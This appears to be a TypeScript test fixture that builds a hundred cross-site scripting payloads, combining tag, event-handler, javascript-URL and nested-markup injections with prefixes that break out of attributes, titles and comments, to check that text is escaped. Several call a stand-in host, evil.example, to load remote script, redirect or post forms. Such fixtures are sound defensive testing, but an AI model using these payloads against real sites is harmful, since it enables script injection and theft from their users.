/** A hundred texts that run a script or change a page unless they are escaped. */
const cores = [
  "<script>canary()</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=canary()>",
  "<svg onload=canary()>",
  "<svg><script>canary()</script></svg>",
  "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
  "<a href=javascript:canary() autofocus onfocus=canary()>x</a>",
  "<input autofocus onfocus=canary()>",
  "<details open ontoggle=canary()>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>body{display:none}</style>",
  "<form action=https://evil.example><button>x</button></form>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=canary()></style></mglyph></math>",
  "<template><script>canary()</script></template>",
  "<object data=javascript:canary()></object>",
  " onmouseover=canary() autofocus onfocus=canary() x=",
  "&lt;script&gt;canary()&lt;/script&gt;",
  "{platform}{system}${canary()}{{canary()}}\u2028<b>",
];
const ways = ["", '">', "'>", "</title></textarea></style></script>", "--><!--><![CDATA["];

export const payloads: readonly string[] = cores.flatMap((core) => ways.map((way) => way + core));
